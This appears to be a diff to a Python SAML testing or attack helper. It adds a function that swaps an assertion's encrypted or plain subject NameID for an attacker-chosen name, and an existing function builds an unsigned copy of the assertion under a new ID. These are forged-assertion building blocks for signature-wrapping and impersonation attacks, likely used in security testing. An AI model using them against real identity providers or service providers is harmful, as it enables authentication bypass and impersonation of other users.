@@ -17,11 +17,19 @@ def find(root: etree._Element, path: str) -> etree._Element:
     return found
 
 
+def impersonate(assertion: etree._Element) -> None:
+    """Put another name into an assertion, also where the provider has encrypted it."""
+    subject = find(assertion, "saml:Subject")
+    for holder in subject.findall(f"{{{SAML}}}EncryptedID"):
+        subject.replace(holder, etree.Element(f"{{{SAML}}}NameID"))
+    find(subject, "saml:NameID").text = EVIL
+
+
 def evil_twin(assertion: etree._Element) -> etree._Element:
     """A copy of the assertion, for somebody else, under another ID and without a signature."""
     twin = copy.deepcopy(assertion)
     twin.set("ID", "_evil")
-    find(twin, "saml:Subject/saml:NameID").text = EVIL
+    impersonate(twin)
     for signature in twin.findall(f"{{{DS}}}Signature"):
         twin.remove(signature)
     return twin
